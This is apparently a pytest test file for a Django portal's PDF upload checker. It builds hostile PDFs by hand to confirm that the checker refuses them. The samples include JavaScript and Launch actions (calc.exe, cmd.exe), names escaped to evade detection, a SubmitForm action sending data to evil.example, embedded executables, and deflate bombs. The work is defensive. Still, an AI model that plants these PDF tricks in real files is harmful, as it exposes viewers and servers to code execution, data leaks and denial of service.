"""The hostile-PDF corpus: one PDF per trick, made here, each refused with what was found; a
plain PDF and a decision letter from the portal's own WeasyPrint pipeline are accepted.

`build_pdf` writes PDFs by hand (classic cross-reference table, or a cross-reference stream
with the objects packed into a compressed object stream) so that every trick can be written
exactly as an attacker would.
"""

from __future__ import annotations

import io
import time
import tracemalloc
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from approvals import pdf_safety
from approvals.documents import minimal_pdf, pdf_check

CATALOG = b"<</Type/Catalog/Pages 2 0 R%s>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]%s>>"


def _stream(data: bytes, extra: bytes = b"", compress: bool = True) -> bytes:
    if compress:
        data, extra = zlib.compress(data), extra + b"/Filter/FlateDecode"
    return b"<</Length %d%s>>stream\n" % (len(data), extra) + data + b"\nendstream"


def build_pdf(catalog_extra: bytes = b"", page_extra: bytes = b"", extra: list[bytes] = (), objstm: bool = False):
    """Objects 1 catalog, 2 pages, 3 page, then `extra` as 4, 5, ... With objstm=True every
    non-stream object goes into one compressed object stream (as PDF 1.5 writers do)."""
    objects = [CATALOG % catalog_extra, PAGES, PAGE % page_extra, *extra]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    if not objstm:
        offsets = []
        for n, body in enumerate(objects, start=1):
            offsets.append(out.tell())
            out.write(b"%d 0 obj\n" % n + body + b"\nendobj\n")
        xref = out.tell()
        out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
        for off in offsets:
            out.write(b"%010d 00000 n \n" % off)
        out.write(b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
        return out.getvalue()
    packed = [(n, b) for n, b in enumerate(objects, start=1) if b"stream\n" not in b]
    loose = [(n, b) for n, b in enumerate(objects, start=1) if b"stream\n" in b]
    header, body = b"", b""
    for n, b in packed:
        header += b"%d %d " % (n, len(body))
        body += b + b"\n"
    stm_num, xref_num = len(objects) + 1, len(objects) + 2
    entries = {}
    for index, (n, _b) in enumerate(packed):
        entries[n] = (2, stm_num, index)
    for n, b in loose:
        entries[n] = (1, out.tell(), 0)
        out.write(b"%d 0 obj\n" % n + b + b"\nendobj\n")
    entries[stm_num] = (1, out.tell(), 0)
    out.write(
        b"%d 0 obj\n" % stm_num
        + _stream(header + body, b"/Type/ObjStm/N %d/First %d" % (len(packed), len(header)))
        + b"\nendobj\n"
    )
    entries[xref_num] = (1, out.tell(), 0)
    rows = b"\x00" + b"\x00\x00\x00\x00" + b"\xff\xff"
    for n in range(1, xref_num + 1):
        kind, a, b = entries[n]
        rows += bytes([kind]) + a.to_bytes(4, "big") + b.to_bytes(2, "big")
    xref_at = out.tell()
    out.write(
        b"%d 0 obj\n" % xref_num
        + _stream(rows, b"/Type/XRef/Size %d/W[1 4 2]/Root 1 0 R" % (xref_num + 1))
        + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    )
    return out.getvalue()


JS_ACTION = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"


def _bomb(size: int) -> bytes:
    """A FlateDecode stream of `size` zero bytes, compressed without ever holding them."""
    comp, chunk = zlib.compressobj(9), bytes(1024 * 1024)
    data = b"".join(comp.compress(chunk) for _ in range(size // len(chunk))) + comp.flush()
    return b"<</Length %d/Filter/FlateDecode>>stream\n" % len(data) + data + b"\nendstream"


def _pypdf_writer(make) -> bytes:
    from pypdf import PdfWriter

    w = PdfWriter()
    w.add_blank_page(200, 200)
    make(w)
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


def _pypdf_open_action(w):
    from pypdf.actions import JavaScript

    w.add_open_action(JavaScript("app.alert(1)"))


# name -> (bytes, a name the refusal must mention)
HOSTILE = {
    "open-action-javascript": (build_pdf(b"/OpenAction 4 0 R", extra=[JS_ACTION]), "/JavaScript"),
    "open-action-javascript-pypdf": (_pypdf_writer(_pypdf_open_action), "/JavaScript"),
    "names-javascript": (build_pdf(b"/Names<</JavaScript<</Names[(x)4 0 R]>>>>", extra=[JS_ACTION]), "/JavaScript"),
    "document-additional-actions": (build_pdf(b"/AA<</WC 4 0 R>>", extra=[JS_ACTION]), "/AA"),
    "page-additional-actions": (build_pdf(page_extra=b"/AA<</O 4 0 R>>", extra=[JS_ACTION]), "/AA"),
    "annotation-additional-actions": (
        build_pdf(
            page_extra=b"/Annots[4 0 R]",
            extra=[b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/AA<</E 5 0 R>>>>", JS_ACTION],
        ),
        "/AA",
    ),
    "form-field-additional-actions": (
        build_pdf(
            b"/AcroForm<</Fields[4 0 R]>>",
            extra=[b"<</FT/Tx/T(name)/Subtype/Widget/Rect[0 0 9 9]/AA<</K 5 0 R>>>>", JS_ACTION],
        ),
        "/AA",
    ),
    "javascript-in-object-stream": (build_pdf(b"/OpenAction 4 0 R", extra=[JS_ACTION], objstm=True), "/JavaScript"),
    "launch-in-object-stream": (
        build_pdf(b"/OpenAction 4 0 R", extra=[b"<</S/Launch/F(calc.exe)>>"], objstm=True),
        "/Launch",
    ),
    "escaped-name-javascript": (
        build_pdf(b"/OpenAction 4 0 R", extra=[b"<</S/J#61vaScript/J#53(app.alert\\(1\\))>>"]),
        "/JavaScript",
    ),
    "escaped-name-in-object-stream": (
        build_pdf(b"/OpenAction 4 0 R", extra=[b"<</S/#4Caunch/F(calc.exe)>>"], objstm=True),
        "/Launch",
    ),
    "launch-action": (build_pdf(b"/OpenAction 4 0 R", extra=[b"<</S/Launch/F(cmd.exe)>>"]), "/Launch"),
    "submit-form-action": (
        build_pdf(
            page_extra=b"/Annots[4 0 R]",
            extra=[b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/SubmitForm/F(https://evil.example)>>>>"],
        ),
        "/SubmitForm",
    ),
    "import-data-action": (build_pdf(b"/OpenAction 4 0 R", extra=[b"<</S/ImportData/F(data.fdf)>>"]), "/ImportData"),
    "goto-remote-action": (build_pdf(b"/OpenAction 4 0 R", extra=[b"<</S/GoToR/F(other.pdf)/D[0/Fit]>>"]), "/GoToR"),
    "goto-embedded-action": (build_pdf(b"/OpenAction 4 0 R", extra=[b"<</S/GoToE/D[0/Fit]>>"]), "/GoToE"),
    "action-chained-by-next": (
        build_pdf(b"/OpenAction 4 0 R", extra=[b"<</S/GoTo/D[3 0 R/Fit]/Next 5 0 R>>", b"<</S/Launch/F(x.exe)>>"]),
        "/Launch",
    ),
    "embedded-file-pypdf": (_pypdf_writer(lambda w: w.add_attachment("virus.exe", b"MZ")), "/EmbeddedFile"),
    "embedded-file-stream-in-names": (
        build_pdf(
            b"/Names<</EmbeddedFiles<</Names[(a.exe)4 0 R]>>>>",
            extra=[b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>", _stream(b"MZ", b"/Type/EmbeddedFile")],
        ),
        "/EmbeddedFiles",
    ),
    "file-attachment-annotation": (
        build_pdf(
            page_extra=b"/Annots[4 0 R]",
            extra=[
                b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>>>",
                _stream(b"MZ", b"/Type/EmbeddedFile"),
            ],
        ),
        "/FileAttachment",
    ),
    "xfa-form": (
        build_pdf(b"/AcroForm<</Fields[]/XFA 4 0 R>>", extra=[_stream(b"<xdp:xdp xmlns:xdp='x'/>")]),
        "/XFA",
    ),
    "rich-media-annotation": (
        build_pdf(page_extra=b"/Annots[4 0 R]", extra=[b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>"]),
        "/RichMedia",
    ),
    "javascript-after-end-of-file": (build_pdf() + b"9 0 obj\n" + JS_ACTION + b"\nendobj\n", "/JavaScript"),
}

BROKEN = {
    "not-a-pdf": (b"PK\x03\x04 a zip renamed", "not_pdf"),
    "header-only": (b"%PDF-1.7\nnot really", "broken"),
    "truncated": (minimal_pdf()[:150], "broken"),
    "garbage-xref": (minimal_pdf().replace(b"xref", b"xrux").replace(b"/Root", b"/Rooo"), "broken"),
    "no-pages": (build_pdf().replace(b"/Kids[3 0 R]/Count 1", b"/Kids[]/Count 0"), "no_pages"),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_pdf_is_refused_naming_what_was_found(name):
    content, expected = HOSTILE[name]
    verdict = pdf_safety.pdf_verdict(content)
    assert verdict.problem == "active_content", (name, verdict)
    assert expected in verdict.found, (name, verdict.found)


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_pdf_parses_so_the_refusal_is_not_a_parse_error(name):
    """Each trick is a PDF a viewer opens: pypdf reads its pages."""
    from pypdf import PdfReader

    assert len(PdfReader(io.BytesIO(HOSTILE[name][0])).pages) == 1


@pytest.mark.parametrize("name", sorted(BROKEN))
def test_unparsable_pdf_is_refused(name):
    content, problem = BROKEN[name]
    assert pdf_safety.pdf_verdict(content).problem == problem


def test_upload_refusal_says_what_was_found(settings):
    settings.LANGUAGE_CODE = "en"
    content, _found = HOSTILE["escaped-name-in-object-stream"]
    with pytest.raises(ValidationError) as exc:
        pdf_check(SimpleUploadedFile("ok.pdf", content))
    assert "/Launch" in exc.value.messages[0]
    assert exc.value.code == "active_content"


@pytest.mark.parametrize(
    "pdf",
    [
        pytest.param(lambda: build_pdf(extra=[_bomb(2 * 1024**3)]), id="one-2gb-stream"),
        pytest.param(lambda: build_pdf(extra=[_bomb(20 * 1024**2)] * 6), id="six-20mb-streams"),
        pytest.param(
            lambda: build_pdf(page_extra=b"/Contents 4 0 R", extra=[_bomb(1024**3)], objstm=True), id="1gb-with-objstm"
        ),
    ],
)
def test_deflate_bomb_is_refused_in_bounded_memory_and_time(pdf):
    content = pdf()
    assert len(content) < 3 * 1024 * 1024  # a tiny upload ...
    tracemalloc.start()
    started = time.monotonic()
    try:
        verdict = pdf_safety.pdf_verdict(content)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    elapsed = time.monotonic() - started
    assert verdict.problem == "too_large_decoded"
    assert peak < 3 * pdf_safety.MAX_STREAM_DECODED_BYTES, peak  # ... never inflated beyond the cap
    assert elapsed < 10, elapsed


def test_object_stream_bomb_is_refused():
    """The object stream itself inflates past the cap (objects packed after a sea of spaces)."""
    comp = zlib.compressobj(9)
    body = comp.compress(b"1 0 ") + b"".join(comp.compress(b" " * 1024 * 1024) for _ in range(200)) + comp.flush()
    objstm = b"<</Type/ObjStm/N 1/First 4/Length %d/Filter/FlateDecode>>stream\n" % len(body) + body + b"\nendstream"
    content = build_pdf(extra=[objstm])
    assert pdf_safety.pdf_verdict(content).problem == "too_large_decoded"


def test_plain_pdfs_are_accepted():
    for content in (minimal_pdf(), build_pdf(), build_pdf(objstm=True), build_pdf(b"/OpenAction[3 0 R/Fit]")):
        verdict = pdf_safety.pdf_verdict(content)
        assert verdict.ok, verdict
        assert verdict.pages == 1


def test_link_annotation_to_a_web_page_is_accepted():
    content = build_pdf(
        page_extra=b"/Annots[4 0 R]",
        extra=[b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://www.arbeidstilsynet.no)>>>>"],
    )
    assert pdf_safety.pdf_verdict(content).ok


@pytest.mark.django_db
def test_decision_letter_from_the_portal_pipeline_is_accepted(case_handler):
    from approvals import letters
    from approvals.services.cases import case_decide
    from tests.approvals.factories import CaseFactory, assessed

    case = CaseFactory(status="in_review")
    decision = case_decide(case=case, actor=case_handler, outcome="approved", assessments=assessed())
    rendered = letters.letter_render(decision=decision)
    checked = pdf_check(SimpleUploadedFile("vedtak.pdf", rendered.pdf))
    assert checked.pages == rendered.pages
